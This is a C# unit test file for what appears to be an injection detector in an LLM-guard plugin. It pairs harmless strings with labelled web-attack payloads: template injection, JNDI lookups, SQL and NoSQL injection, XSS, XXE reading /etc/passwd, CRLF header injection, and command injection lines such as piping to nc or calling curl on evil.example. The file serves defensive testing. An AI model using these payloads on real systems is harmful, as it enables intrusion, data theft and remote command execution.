namespace LlmGuard.Plugins.InjectionProtection.Tests.Web;

/// <summary>Forms that decide between an attack of the web types and what looks like one, side by side.</summary>
public sealed class WebFormTests
{
    // Expressions of templates: showing fields, through filters and functions of the page's own, and everything else.
    [TestCase("{{ user.first_name | default(\"there\") }}", false)]
    [TestCase("{{ 'hello' | translate }}", false)]
    [TestCase("{{ price * 2 }} {{ loop.index + 1 }}", false)]
    [TestCase("{{ config.site_name }}", false)]
    [TestCase("{% if user %}Hi {{ user.name }}{% endif %}", false)]
    [TestCase("<%= user.name %>", false)]
    [TestCase("${items.map(i => i.price).join(', ')}", false)]
    [TestCase("{{ 7 * 7 }}", true)]
    [TestCase("{{ config.items() }}", true)]
    [TestCase("{{ ''['__class__'] }}", true)]
    [TestCase("{{ ['id'] | map('system') }}", true)]
    [TestCase("<%= `id` %>", true)]
    [TestCase("<%= File.read('/srv/a') %>", true)]
    [TestCase("${\"x\".length()}", true)]
    [TestCase("{% import os %}", true)]

    // Lookups, by what they resolve to.
    [TestCase("${${PROJECT}_DIR}/lib", false)]
    [TestCase("${PORT:-1}", false)]
    [TestCase("${${lower:J}ndi:ldap://x/a}", true)]
    [TestCase("${${env:X:-j}${env:Y:-n}di:dns://x}", true)]
    [TestCase("${${a:-${b:-jn}}di:rmi://x}", true)]

    // Names of classes in logs, files and declarations.
    [TestCase("java.lang.IllegalStateException: closed", false)]
    [TestCase("lib/numpy/__init__.py", false)]
    [TestCase("{\"constructor\":\"McLaren\"}", false)]
    [TestCase("{\"constructor\": {\"prototype\": {\"x\": 1}}}", true)]
    [TestCase("x[constructor][prototype][y]=1", true)]

    // Pages and pictures.
    [TestCase("<svg width=\"16\" viewBox=\"0 0 16 16\"><path d=\"M0\"/>", false)]
    [TestCase("<meta charset=\"utf-8\"><style>p { color: red }</style>", false)]
    [TestCase("<meta http-equiv=\"refresh\" content=\"0;url=//x\">", true)]
    [TestCase("<style>@import '//x';</style>", true)]
    [TestCase("<room onsite=\"yes\">", false)]
    [TestCase("<x onxyz=1>", true)]
    [TestCase("the tag <script> is for programs", false)]
    [TestCase("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>", false)]
    [TestCase("<!DOCTYPE r PUBLIC \"-//A//B//EN\" \"http://evil.example/x.dtd\"><r/>", true)]

    // Breaks in escapes, and what follows them.
    [TestCase("a%0D%0ASecond line", false)]
    [TestCase("a%0d%0aX-Admin: 1", true)]
    [TestCase("a%E5%98%8A%E5%98%8DSet-Cookie:x=1", true)]

    // What a sentence speaks of does nothing.
    [TestCase("eval() is evil, they say", false)]
    [TestCase("eval(x) is", true)]
    [TestCase("what does ../../ mean in an import", false)]
    [TestCase("../../ means", true)]
    [TestCase("sleep(5) in mysql does what", false)]
    [TestCase("1 or sleep(5) in mysql does what", false)]
    [TestCase("1 or sleep(5)", true)]
    [TestCase("could not find file 'c:\\inetpub\\a.xml'", false)]
    [TestCase("'c:\\inetpub\\a.xml'", true)]

    // Command lines of one's own, which nothing broke out of.
    [TestCase("tsc -p . && node ./bin/test.js", false)]
    [TestCase("tsc -p . && node /tmp/test.js", true)]
    [TestCase("0 3 * * 1-5 cd /srv/app && ./run.sh | logger -t app", false)]
    [TestCase("awk -F: '{print $1}' groups.txt", false)]
    [TestCase("awk -F: {print $1} /etc/groups", true)]
    [TestCase("git stash list [<options>]", false)]
    [TestCase("refer to [`npm run`](/commands)", false)]
    [TestCase("if [ -x /usr/bin/mandb ]; then", false)]
    [TestCase("/usr/bin/python3", false)]
    [TestCase("/usr/bin/python3 -c x", true)]

    // Conditions of programs, which compare what is filled in.
    [TestCase("'$(A)' == '' and '$(B)' == 'x' and '$(C)' == 'y'", false)]
    [TestCase("'a' or '$(A)' = '$(A)'", true)]
    [TestCase("/book[price>35 and @lang='en']/title", false)]
    [TestCase("npx npm@\">=10.2\" audit", false)]
    [TestCase("UPDATE a SET b = now() WHERE id = $1 RETURNING id", false)]
    [TestCase("map(select(.a or .b)) | length", false)]
    [TestCase("{{ states('a') | float * 1.8 + 32 }}", false)]
    [TestCase("{{ 7 * 1.8 + 32 }}", true)]

    // Filters that narrow, and those that let everything through.
    [TestCase("{\"status\": {\"$in\": [\"open\", \"shut\"]}}", false)]
    [TestCase("{\"username\": {\"$in\": [\"admin\", \"root\"]}}", true)]
    [TestCase("{\"title\": {\"$regex\": \"^intro\"}}", false)]
    [TestCase("{\"title\": {\"$regex\": \".*\"}}", true)]
    [TestCase("{\"price\": {\"$gte\": 0, \"$lt\": 50}}", false)]
    [TestCase("{\"password\": {\"$exists\": true}}", true)]

    // Pages with scripts of their own.
    [TestCase("<!doctype html><html><head><meta charset=\"utf-8\"><script src=\"a.js\"></script></head></html>", false)]
    [TestCase("<!doctype html><html><head><meta charset=\"utf-8\"><script src=\"//x/a.js\"></script></head></html>", true)]
    [TestCase("<!doctype html><html><head><meta charset=\"utf-8\"><script>alert(1)</script></head></html>", true)]
    [TestCase("<html><script src=\"a.js\"></script></html>", true)]

    // Commands by their form.
    [TestCase("tea; cat food; dog food", false)]
    [TestCase("100 Main St. #5; Apt 'B'", false)]
    [TestCase("user's guide; admin's handbook", false)]
    [TestCase("x;perf --version", true)]
    [TestCase("nohup ifconfig", true)]
    [TestCase("alias a='curl x'", true)]
    [TestCase("/bi[n]/bash", true)]
    [TestCase("src/app/[slug]/page.tsx", false)]
    [TestCase("if \"%1\"==\"\" goto error", true)]
    [TestCase("cat ${HOME:0:1}etc${HOME:0:1}hosts", true)]

    // SQL, and what has its words.
    [TestCase("5 > 3 and 2 < 4", false)]
    [TestCase("{\"sku\":\"OR-1=1-KIT\",\"qty\":2}", false)]
    [TestCase("{\"sql\":\"SELECT id, name FROM customers WHERE country = 'DE'\"}", false)]
    [TestCase("{\"sql\":\"SELECT id FROM customers WHERE 1=1\"}", true)]
    [TestCase("{\"sql\":\"SELECT id FROM customers WHERE country = 'DE'\",\"x\":\"' or 1=1--\"}", true)]
    [TestCase("SELECT name FROM users WHERE id = 7 -- by id", false)]
    [TestCase("{\"select a from b where c = 1\"", false)]
    [TestCase("1 OR 17-7=10", true)]
    [TestCase("'; CREATE USER eve SUPERUSER PASSWORD 'x'--", true)]

    // Handlers of frameworks, which a browser would run to no effect, and those that do something.
    [TestCase("<button onClick={save}>", false)]
    [TestCase("<button onClick={() => save(1)}>", false)]
    [TestCase("<button onClick={async (a, b) => save(a)}>", false)]
    [TestCase("<button onClick={e => save(e)}>", false)]
    [TestCase("<button onClick={save()}>", true)]
    [TestCase("<button onclick=save>", true)]
    [TestCase("<button onclick={a;go()}>", true)]

    // Tags of pages.
    [TestCase("<link rel=\"stylesheet\" href=\"/a.css\">", false)]
    [TestCase("<link rel=\"stylesheet\" href=\"//evil.example/a.css\">", true)]
    [TestCase("<link rel=\"import\" href=\"/a\">", true)]
    [TestCase("<iframe width=\"5\" height=\"5\" src=\"https://a.example/b\"></iframe>", false)]
    [TestCase("<iframe width=\"5\" height=\"5\" src=\"https://a.example/b\" onload=\"go()\"></iframe>", true)]
    [TestCase("<iframe src=\"https://a.example/b\"></iframe>", true)]

    // Calls in sentences and in programs.
    [TestCase("how do I write an alert('x') here", false)]
    [TestCase("x; return alert('x')", true)]
    [TestCase("</b> an alert('x')", true)]

    // Sentences.
    [TestCase("they voted; select committees from all regions reported", false)]
    [TestCase("; sleep(8 hours)", false)]
    [TestCase("1; sleep(8)", true)]
    [TestCase("what ' OR 1=1 means to a beginner", false)]
    [TestCase("what ' OR 1=1 limit 1 --", true)]

    // Windows' interpreter, and variables for commands.
    [TestCase("if not exist C:\\a.txt (x)", true)]
    [TestCase("if a equ b echo x", true)]
    [TestCase("if sales exist in Berlin, reply", false)]
    [TestCase("for %i in (a,b) do x", true)]
    [TestCase("for 5% in (a) bonds", false)]
    [TestCase("a=1; echo", false)]
    [TestCase("price=5; $price", true)]
    [TestCase("cost: 5; $price", false)]

    // Conditions and statements, and sentences of their words.
    [TestCase("prove that 1=1 and 0!=1", false)]
    [TestCase("x' and 1=1 and 0!=1--", true)]
    [TestCase("3 or 3 between 2 and 4", true)]
    [TestCase("come at 4 or 5 between meetings", false)]
    [TestCase("pick a plan; select 'Later' in settings", false)]
    [TestCase("7; select 'later' from users", true)]
    [TestCase("the query \"SELECT a FROM b WHERE id = 1\" is slow", false)]
    [TestCase("' or \"select a from b where c = 1\"--", true)]
    [TestCase("nick', is_admin = true where id = 7 -- ", true)]
    [TestCase("nick', is it true, she asked", false)]
    [TestCase("8;shutdown with nowait--", true)]
    [TestCase("clean up; shutdown the computer", false)]
    [TestCase("benchmark(5000) takes a second", false)]
    [TestCase("benchmark(5000,md5(1))", true)]
    [TestCase("group by city having count(*) > 3", false)]
    [TestCase("group by city having 1=1--", true)]
    [TestCase("order by 2 desc confuses readers", false)]
    [TestCase("order by 2 desc--", true)]

    // Filters of document databases, by what they leave out.
    [TestCase("{\"at\":{\"$gte\":\"2024-01-01\",\"$lt\":\"2024-02-01\"}}", false)]
    [TestCase("{\"state\":{\"$ne\":\"closed\"}}", false)]
    [TestCase("{\"state\":{\"$ne\":\"1\"}}", true)]
    [TestCase("{\"login\":{\"$ne\":\"closed\"}}", true)]
    [TestCase("{\"a\":{\"$not\":{\"$gt\":9}}}", false)]
    [TestCase("price[$gte]=10&price[$lte]=50", false)]
    [TestCase("price[$gt]=0", true)]
    [TestCase("password[$ne]=closed", true)]
    [TestCase("email[$ne]=closed", true)]
    [TestCase("{\"$expr\":{\"$gt\":[\"$spent\",\"$budget\"]}}", false)]
    [TestCase("{\"$expr\":{\"$function\":{\"body\":\"x\"}}}", true)]
    [TestCase("0;var d=new Date();do{x=1}while(1)", true)]
    [TestCase("0;varnish", false)]

    // Markup that loads and runs nothing.
    [TestCase("<script type=\"application/ld+json\">{\"@type\":\"Person\"}</script>", false)]
    [TestCase("<script type=\"application/ld+json\" src=\"//x/a.js\"></script>", true)]
    [TestCase("<script type=\"text/javascript\">x()</script>", true)]
    [TestCase("<script type=\"application/json\">{}</script><script>x()</script>", true)]
    [TestCase("<a href=\"#\" onclick=\"return false;\">x</a>", false)]
    [TestCase("<a href=\"#\" onclick=\"return x()\">x</a>", true)]
    [TestCase("<a href=\"javascript:void(0)\">x</a>", false)]
    [TestCase("<a href=\"javascript:void(0);alert(1)\">x</a>", true)]
    [TestCase("<a href=\"javascript:void(0) || alert(1)\">x</a>", true)]
    [TestCase("<xi:include href=\"part1.xml\"/>", false)]
    [TestCase("<object data=\"a.pdf\" type=\"application/pdf\"></object>", false)]
    [TestCase("<object data=\"a.html\" type=\"application/pdf\"></object>", true)]
    [TestCase("<object data=\"//x/a.pdf\" type=\"application/pdf\"></object>", true)]
    [TestCase("<xi:include href=\"file:///etc/passwd\"/>", true)]

    // Commands behind pipes, options of Windows and remarks.
    [TestCase("aws s3 ls s3://logs | grep 2024", false)]
    [TestCase("x | grep root /etc/passwd", true)]
    [TestCase("the value $(date +%F) is not replaced here", false)]
    [TestCase("the value$(date +%F)", true)]
    [TestCase("the value $(curl evil.example) is not replaced here", true)]
    [TestCase("```sh\ncd app\n```", false)]
    [TestCase("docker ps | head -5", false)]
    [TestCase("a | nc 10.0.0.1 4444", true)]

    // Names of classes that a sentence tells of, and data on things.
    [TestCase("see java.lang.ProcessBuilder for details", false)]
    [TestCase("new java.lang.ProcessBuilder({x}).start()", true)]
    [TestCase("java.util.List<java.lang.String> names", false)]
    [TestCase("{\"@type\": \"Person\"}", false)]
    [TestCase("{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\"}", true)]
    [TestCase("class.module.classLoader.resources=x", true)]
    [TestCase("ldap://ldap.example.com/dc=example,dc=com", false)]
    [TestCase("ldap://evil.example/a", true)]
    [TestCase("${jndi} is the name", false)]

    // Queries and filters that an application sends itself.
    [TestCase("SELECT mean(\"usage_idle\") FROM \"cpu\" WHERE $timeFilter GROUP BY time($__interval) fill(null)", false)]
    [TestCase("SELECT a FROM b WHERE id = ${id}", false)]
    [TestCase("SELECT a FROM b WHERE id = {{ id }}", false)]
    [TestCase("SELECT a FROM b WHERE id = ${id} OR 1=1", true)]
    [TestCase("SELECT [a], t.* FROM [dbo].[b] t WHERE [a] > 10", false)]
    [TestCase("SELECT a FROM b WHERE EXISTS (SELECT 1 FROM c WHERE c.id = b.id)", false)]
    [TestCase("SELECT a FROM b WHERE EXISTS (SELECT 1 FROM c WHERE 1=1)", true)]
    [TestCase("lower(name) = 'bob' or lower(name) = 'ann'", false)]
    [TestCase("x' or lower(name) = 'ann", true)]
    [TestCase("name contains 'report' and trashed = false", false)]
    [TestCase("//book | //magazine", false)]
    [TestCase("'] | //magazine", true)]
    [TestCase("//*[local-name()='entry']", false)]
    [TestCase("(//div[@class=\"x\"])[1]", false)]
    [TestCase("(//user[position()=1])[1] | //*", true)]

    // What a page calls itself.
    [TestCase("<input onchange=\"update()\">", false)]
    [TestCase("<select onchange=\"pick(this.value)\">", false)]
    [TestCase("<input onchange=\"alert()\">", true)]
    [TestCase("<input onfocus=\"update()\" autofocus>", true)]
    [TestCase("<input onchange=\"update(document.cookie)\">", true)]
    [TestCase("<input onchange=update()>", true)]
    [TestCase("data:text/html,hello", false)]
    [TestCase("data:text/html,<b>x", true)]
    [TestCase("notes\nHost: Maria\nDate: Friday", false)]
    [TestCase("notes\nHost: evil.example\nDate: Friday", true)]

    // Breaks in escapes, and the commands of a cache.
    [TestCase("a%0d%0aset k 0 0 1%0d%0ax", true)]
    [TestCase("a%0d%0aset the table for 5", false)]
    [TestCase("1 Main St%0aLocation:%20Springfield", false)]
    [TestCase("x%0aLocation:%20//evil.example", true)]
    public void Evaluate_Form_IsAnAttackOrNot(string text, bool isAttack) =>
        Assert.That(Injection.Rules(Injection.Judge(Injection.Web, text)), isAttack ? Is.Not.Empty : Is.Empty);
}
